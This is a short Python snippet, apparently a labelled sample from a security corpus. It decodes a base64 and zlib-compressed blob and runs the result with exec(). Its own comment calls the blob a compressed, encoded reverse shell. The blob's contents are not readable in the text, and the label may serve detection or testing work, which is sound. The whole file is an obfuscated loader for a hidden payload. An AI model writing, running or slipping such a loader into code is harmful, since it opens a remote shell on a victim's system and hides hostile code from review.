# hostile: compressed, encoded reverse shell decoded into a variable, then executed
import base64, zlib

blob = "eJxtiMEOgjAQBe/9Cm7dTcrSGk3owZ+hlNgoXeKrB/5eA1fnMpMp66bv1kHTMzenMLifLaeIDSRprTk1IhviKLcgwXuJ1l1/MBuFzJ/tQpClvHJVYuf/3nBc7Gh5JTtMpQ54dH2x/AVm4Slk"
stage = zlib.decompress(base64.b64decode(blob))
code = stage.decode("utf-8")
exec(code)
